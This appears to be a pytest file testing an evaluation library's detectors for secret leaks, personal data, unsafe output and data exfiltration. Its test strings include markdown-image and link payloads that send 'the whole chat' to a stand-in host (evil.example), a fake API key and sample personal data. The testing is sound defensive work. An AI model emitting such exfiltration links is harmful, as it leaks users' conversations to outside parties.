"""The detectors of text: what counts and what does not, and hostile texts in linear time."""

import time

import pytest

import assay
from assay.checks import STANDARD
from assay.checks.safety import DETECTORS
from assay.checks.safety.data_exfiltration import DataExfiltration
from assay.checks.safety.pii_leak import PiiLeak
from assay.checks.safety.secret_leak import SecretLeak
from assay.checks.safety.unsafe_output import UnsafeOutput
from assay.ports import Services

SERVICES = Services()
BY_TYPE = {type: STANDARD.find(type, None) for type in DETECTORS}


def detect(kind, arguments):
    return BY_TYPE[kind](**arguments).detections(SERVICES)


HOSTILE = {
    SecretLeak: [
        "sk-",
        "eyJ-",
        "password is ",
        "token",
        "密码",
        "gl",
        "://a:",
        "cookie: sid",
        "seed phrase ",
        "curl -u a:",
    ],
    PiiLeak: [
        "1",
        "1-",
        "a@b.",
        "abcd:",
        "M-",
        "born ",
        "tel 0",
        "AB12 ",
        "+1",
        "Straße 1 ",
        "tel 099 999 123 ",
        "+49 30 901820 ",
        "4111 ",
        "1.",
        "de89",
        "visa 1 2 ",
    ],
    UnsafeOutput: ["<a on", "{{", "${a", "`", "```\n", "\u2066", "\x1b", "&#1;", "<style>", "=A("],
    DataExfiltration: [
        "![a](https://a.b/?",
        "http://a.b/?d=a+b+c+d&",
        "//",
        "![x][1] [1]: http://a.b/ ",
        "](<https://",
    ],
}


@pytest.mark.parametrize(
    ("detector", "unit"), [(one, unit) for one, units in HOSTILE.items() for unit in units], ids=repr
)
def test_hostile_text_takes_linear_time(detector, unit):
    """20,000 characters: quadratic work would take minutes, and an exponential pattern would not end."""
    text = unit * (20_000 // len(unit))
    start = time.thread_time()
    detector(text=text).detections(SERVICES)
    assert time.thread_time() - start < 3


SECRET = "sk-ant-api03-" + "q7Zk2Lm9Xw4Tn8Rb" * 3


def test_a_secret_is_detected_although_redaction_would_hide_it_and_is_not_in_the_finding():
    result = assay.evaluate_sync(
        test_cases=[{"id": "a", "input": "?"}],
        outputs=[{"value": {"reply": f"use {SECRET}"}}],
        checks=[{"type": "secret_leak", "arguments": {"text": "$.output.value"}}],
    )
    (answer,) = result.results[0].check_results
    assert answer.results == {
        "passed": False,
        "kind": "secret-leak",
        "severity": "critical",
        "findings": [{"where": "text.reply", "start": 4, "end": 4 + len(SECRET), "rule": "anthropic-key"}],
    }


@pytest.mark.parametrize(
    ("text", "input", "detected"),
    [
        ("mail anna.berg@posteo.de", "", True),
        ("mail ANNA.BERG@posteo.de", "I am anna.berg@posteo.de", False),
        ("4556 7375 8689 9855", {"card": "4556-7375-8689-9855"}, False),
        ({"dob": "1977-10-21"}, "", True),  # the name of the member is context
        ("4556 7375 8689 9856", "", False),  # a wrong check digit
    ],
)
def test_personal_data_of_the_input_does_not_count(text, input, detected):
    assert bool(detect("pii_leak", {"text": text, "input": input})) is detected


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://a.example/a.png)![b](https://evil.example/?d=the+whole+chat)",  # without a space between
        "![a][ref] and\n\n[ref]: https://evil.example/?d=the+whole+chat",
        "see <https://evil.example/?secret=the whole chat>",
    ],
)
def test_every_form_of_a_link_is_read(text):
    assert detect("data_exfiltration", {"text": text})


def test_an_allowed_host_may_receive_data():
    arguments = {"text": "![x](https://img.acme.example/?data=the+whole+chat)", "input": ""}
    assert detect("data_exfiltration", arguments)
    assert not detect("data_exfiltration", arguments | {"allowed_hosts": ["acme.example"]})
